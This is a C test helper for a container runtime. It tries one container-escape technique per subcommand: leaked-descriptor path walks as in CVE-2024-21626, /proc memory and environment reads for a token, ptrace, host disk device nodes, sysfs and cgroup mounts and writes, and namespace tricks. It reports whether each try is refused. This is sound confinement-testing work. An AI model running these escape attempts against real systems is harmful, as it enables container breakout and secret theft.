/* cgwarden-attack: what a tenant would try from inside a container, one attack per
 * subcommand. Built static (no sanitizer, no libraries to find in a busybox rootfs) and run
 * through the API by tests/integration/test-confinement.sh. Each subcommand prints what it
 * tried and how each try ended, and exits 0 if every try was refused, 1 if any got through
 * (the line says "ESCAPED"), 2 on a usage error. It only ever targets what the test made for
 * it: a marker file, the test's own group, a sysctl written back with the value it holds. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static int escaped;

static void result(const char *what, int ok, int err) {
        if (ok) {
                escaped = 1;
                printf("ESCAPED: %s\n", what);
        } else
                printf("refused: %s (%s)\n", what, strerror(err));
}

/* Does the file at fd hold the marker's text? */
static int holds(int fd, const char *text) {
        char buf[256];
        ssize_t n = read(fd, buf, sizeof buf - 1);
        if (n <= 0)
                return 0;
        buf[n] = '\0';
        return strstr(buf, text) != NULL;
}

/* fds MARKER TEXT: from every descriptor of pid 1 and of this process, walk up with ".."
 * and down to the host's marker file (CVE-2024-21626's way out). */
static int attack_fds(const char *marker, const char *text) {
        const char *dirs[] = {"/proc/1/fd", "/proc/self/fd"};
        const char *rel = marker[0] == '/' ? marker + 1 : marker;
        for (size_t d = 0; d < 2; d++) {
                DIR *dir = opendir(dirs[d]);
                if (!dir) {
                        char what[64];
                        snprintf(what, sizeof what, "listing %s", dirs[d]);
                        result(what, 0, errno);
                        continue;
                }
                struct dirent *e;
                while ((e = readdir(dir))) {
                        char path[512], what[2048];
                        if (e->d_name[0] == '.')
                                continue;
                        snprintf(path, sizeof path, "%s/%s", dirs[d], e->d_name);
                        int fd = open(path, O_PATH | O_CLOEXEC);
                        if (fd < 0) {
                                snprintf(what, sizeof what, "opening %s", path);
                                result(what, 0, errno);
                                continue;
                        }
                        for (int up = 0; up <= 12; up++) {
                                char walk[1024] = "";
                                for (int i = 0; i < up; i++)
                                        strcat(walk, "../");
                                strcat(walk, rel);
                                int f = openat(fd, walk, O_RDONLY | O_CLOEXEC);
                                if (f >= 0 && holds(f, text)) {
                                        snprintf(what, sizeof what, "%s/%s reaches the host's marker", path, walk);
                                        result(what, 1, 0);
                                }
                                if (f >= 0)
                                        close(f);
                        }
                        close(fd);
                }
                closedir(dir);
        }
        if (!escaped)
                printf("refused: no descriptor leads to %s\n", marker);
        return escaped;
}

/* mem PID TOKEN: read the process's memory, environment and command line for the token. */
static int attack_mem(pid_t pid, const char *token) {
        const char *files[] = {"mem", "environ", "cmdline", "maps"};
        for (size_t i = 0; i < 4; i++) {
                char path[64], what[128];
                snprintf(path, sizeof path, "/proc/%d/%s", (int)pid, files[i]);
                snprintf(what, sizeof what, "reading %s", path);
                int fd = open(path, O_RDONLY | O_CLOEXEC);
                if (fd < 0) {
                        result(what, 0, errno);
                        continue;
                }
                if (i == 0) /* opening it at all takes the right to ptrace: that is the leak */
                        result("opening /proc/PID/mem", 1, 0);
                else {
                        char buf[65536];
                        ssize_t n = read(fd, buf, sizeof buf - 1);
                        buf[n > 0 ? n : 0] = '\0';
                        for (ssize_t j = 0; j < n; j++)
                                if (!buf[j])
                                        buf[j] = ' ';
                        snprintf(what, sizeof what, "the token in %s", path);
                        result(what, strstr(buf, token) != NULL, ENOENT);
                }
                close(fd);
        }
        char buf[64];
        struct iovec local = {buf, sizeof buf}, remote = {(void *)0x400000, sizeof buf};
        ssize_t n = process_vm_readv(pid, &local, 1, &remote, 1, 0);
        result("process_vm_readv", n > 0, errno);
        return escaped;
}

/* ptrace PID: attach to it (the shim, the init). */
static int attack_ptrace(pid_t pid) {
        char what[64];
        snprintf(what, sizeof what, "ptrace(PTRACE_SEIZE, %d)", (int)pid);
        long r = ptrace(PTRACE_SEIZE, pid, 0, 0);
        result(what, r == 0, errno);
        if (r == 0)
                ptrace(PTRACE_DETACH, pid, 0, 0);
        return escaped;
}

/* disk MAJ MIN: make the host disk's node where we can, read its first sector, mount it. */
static int attack_disk(unsigned maj, unsigned min) {
        const char *places[] = {"/dev/cgw-disk", "/tmp/cgw-disk", "/cgw-disk"};
        for (size_t i = 0; i < 3; i++) {
                char what[128];
                snprintf(what, sizeof what, "mknod %s", places[i]);
                if (mknod(places[i], S_IFBLK | 0600, makedev(maj, min)) < 0) {
                        printf("refused: %s (%s)\n", what, strerror(errno));
                        continue;
                }
                printf("made: %s (harmless unless it opens)\n", what);
                snprintf(what, sizeof what, "reading the disk through %s", places[i]);
                int fd = open(places[i], O_RDONLY | O_CLOEXEC);
                char sector[512];
                result(what, fd >= 0 && read(fd, sector, sizeof sector) == (ssize_t)sizeof sector, errno);
                if (fd >= 0)
                        close(fd);
                mkdir("/tmp/cgw-mnt", 0700);
                snprintf(what, sizeof what, "mounting %s", places[i]);
                int m = mount(places[i], "/tmp/cgw-mnt", "ext4", MS_RDONLY, NULL);
                result(what, m == 0, errno);
                if (m == 0)
                        umount2("/tmp/cgw-mnt", MNT_DETACH);
                unlink(places[i]);
        }
        return escaped;
}

/* devnode DIR b|c MAJ MIN: on a tmpfs of its own at DIR/cgw-dev, mounted without nodev
 * (which takes CAP_SYS_ADMIN), make the node and open it (read-only, nothing read): only
 * the device policy stands in the way. A node of /dev/null made the same way must open, or
 * the try proves nothing (exit 3). */
static int attack_devnode(const char *dir, char type, unsigned maj, unsigned min) {
        char mnt[512], node[600], null[600], what[700];
        snprintf(mnt, sizeof mnt, "%s/cgw-dev", dir);
        snprintf(node, sizeof node, "%s/node", mnt);
        snprintf(null, sizeof null, "%s/null", mnt);
        mkdir(mnt, 0700);
        if (mount("tmpfs", mnt, "tmpfs", MS_NOSUID, "mode=0700") < 0) {
                printf("inconclusive: mounting a tmpfs at %s: %s\n", mnt, strerror(errno));
                rmdir(mnt);
                return 3;
        }
        int fd = mknod(null, S_IFCHR | 0600, makedev(1, 3)) < 0 ? -1 : open(null, O_RDWR | O_CLOEXEC);
        if (fd < 0) {
                printf("inconclusive: a node of /dev/null on it does not open: %s\n", strerror(errno));
                umount2(mnt, MNT_DETACH);
                rmdir(mnt);
                return 3;
        }
        close(fd);
        printf("control: a node of /dev/null on a tmpfs without nodev opens\n");
        snprintf(what, sizeof what, "opening a node of %c %u:%u", type, maj, min);
        if (mknod(node, (type == 'b' ? S_IFBLK : S_IFCHR) | 0600, makedev(maj, min)) < 0)
                result(what, 0, errno);
        else {
                fd = open(node, O_RDONLY | O_NOCTTY | O_NONBLOCK | O_CLOEXEC);
                result(what, fd >= 0, errno);
                if (fd >= 0)
                        close(fd);
        }
        umount2(mnt, MNT_DETACH);
        rmdir(mnt);
        return escaped;
}

/* A fresh mount of type at /tmp/cgw-mnt (undone at once if it worked). */
static void try_mount(const char *what, const char *type, const char *data) {
        mkdir("/tmp/cgw-mnt", 0700);
        int m = mount(type, "/tmp/cgw-mnt", type, 0, data);
        result(what, m == 0, errno);
        if (m == 0)
                umount2("/tmp/cgw-mnt", MNT_DETACH);
}

/* sysfs SYSCTL: mount sysfs; write a sysctl (the value it already holds). */
static int attack_sysfs(const char *sysctl) {
        try_mount("mounting sysfs", "sysfs", NULL);
        try_mount("mounting another proc", "proc", NULL);
        char value[128] = "";
        int fd = open(sysctl, O_RDONLY | O_CLOEXEC);
        ssize_t n = fd >= 0 ? read(fd, value, sizeof value - 1) : -1;
        if (fd >= 0)
                close(fd);
        if (n <= 0) {
                printf("refused: reading %s (%s)\n", sysctl, strerror(errno));
                return escaped;
        }
        fd = open(sysctl, O_WRONLY | O_CLOEXEC);
        char what[256];
        snprintf(what, sizeof what, "writing %s", sysctl);
        result(what, fd >= 0 && write(fd, value, (size_t)n) == n, errno);
        if (fd >= 0)
                close(fd);
        return escaped;
}

/* cgroup FILE VALUE: mount a cgroup hierarchy, write a limit file, move to the top. */
static int attack_cgroup(const char *file, const char *value) {
        try_mount("mounting cgroup v1 (memory)", "cgroup", "memory");
        try_mount("mounting cgroup2", "cgroup2", NULL);
        char what[512];
        int fd = open(file, O_WRONLY | O_CLOEXEC);
        snprintf(what, sizeof what, "writing %s", file);
        result(what, fd >= 0 && write(fd, value, strlen(value)) == (ssize_t)strlen(value), errno);
        if (fd >= 0)
                close(fd);
        return escaped;
}

/* ns: gain privileges through new namespaces or the init's. */
static int attack_ns(void) {
        static const struct {
                int flag;
                const char *name;
        } t[] = {{CLONE_NEWUSER, "unshare(CLONE_NEWUSER)"}, {CLONE_NEWNS, "unshare(CLONE_NEWNS)"},
                 {CLONE_NEWNET, "unshare(CLONE_NEWNET)"},   {CLONE_NEWCGROUP, "unshare(CLONE_NEWCGROUP)"}};
        for (size_t i = 0; i < 4; i++) {
                pid_t p = fork();
                if (p == 0)
                        _exit(unshare(t[i].flag) == 0 ? 0 : errno);
                int st;
                waitpid(p, &st, 0);
                result(t[i].name, WIFEXITED(st) && WEXITSTATUS(st) == 0, WEXITSTATUS(st));
        }
        struct clone_args ca = {.flags = CLONE_NEWUSER, .exit_signal = SIGCHLD};
        long p = syscall(SYS_clone3, &ca, sizeof ca);
        if (p == 0)
                _exit(0);
        if (p > 0)
                waitpid((pid_t)p, NULL, 0);
        result("clone3(CLONE_NEWUSER)", p > 0, errno);
        /* The filter's own answer is EPERM; a kernel without the family would say EAFNOSUPPORT,
         * which proves nothing, so anything but EPERM counts as getting through. */
        static const struct {
                int family;
                const char *name;
        } fam[] = {{AF_ALG, "socket(AF_ALG)"}, {AF_VSOCK, "socket(AF_VSOCK)"}};
        for (size_t i = 0; i < 2; i++) {
                int s = socket(fam[i].family, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);
                int e = errno;
                result(fam[i].name, s >= 0 || e != EPERM, e);
                if (s >= 0)
                        close(s);
        }
        int fd = open("/proc/1/ns/mnt", O_RDONLY | O_CLOEXEC);
        result("setns to pid 1's mount namespace", fd >= 0 && setns(fd, CLONE_NEWNS) == 0, errno);
        if (fd >= 0)
                close(fd);
        return escaped;
}

/* whoami: what a (setuid) binary ends up with. */
static int whoami(void) {
        char line[256];
        FILE *f = fopen("/proc/self/status", "re");
        printf("euid %d\n", (int)geteuid());
        while (f && fgets(line, sizeof line, f))
                if (!strncmp(line, "Cap", 3) || !strncmp(line, "NoNewPrivs", 10) || !strncmp(line, "Seccomp:", 8))
                        fputs(line, stdout);
        if (f)
                fclose(f);
        return 0;
}

int main(int argc, char **argv) {
        setvbuf(stdout, NULL, _IOLBF, 0);
        const char *c = argc > 1 ? argv[1] : "";
        if (!strcmp(c, "fds") && argc == 4)
                return attack_fds(argv[2], argv[3]);
        if (!strcmp(c, "mem") && argc == 4)
                return attack_mem(atoi(argv[2]), argv[3]);
        if (!strcmp(c, "ptrace") && argc == 3)
                return attack_ptrace(atoi(argv[2]));
        if (!strcmp(c, "disk") && argc == 4)
                return attack_disk((unsigned)atoi(argv[2]), (unsigned)atoi(argv[3]));
        if (!strcmp(c, "devnode") && argc == 6 && (argv[3][0] == 'b' || argv[3][0] == 'c'))
                return attack_devnode(argv[2], argv[3][0], (unsigned)atoi(argv[4]), (unsigned)atoi(argv[5]));
        if (!strcmp(c, "sysfs") && argc == 3)
                return attack_sysfs(argv[2]);
        if (!strcmp(c, "cgroup") && argc == 4)
                return attack_cgroup(argv[2], argv[3]);
        if (!strcmp(c, "ns") && argc == 2)
                return attack_ns();
        if (!strcmp(c, "whoami") && argc == 2)
                return whoami();
        fprintf(stderr, "usage: cgwarden-attack fds MARKER TEXT | mem PID TOKEN | ptrace PID | disk MAJ MIN |\n"
                        "       devnode DIR b|c MAJ MIN |\n"
                        "       sysfs SYSCTL | cgroup FILE VALUE | ns | whoami\n");
        return 2;
}
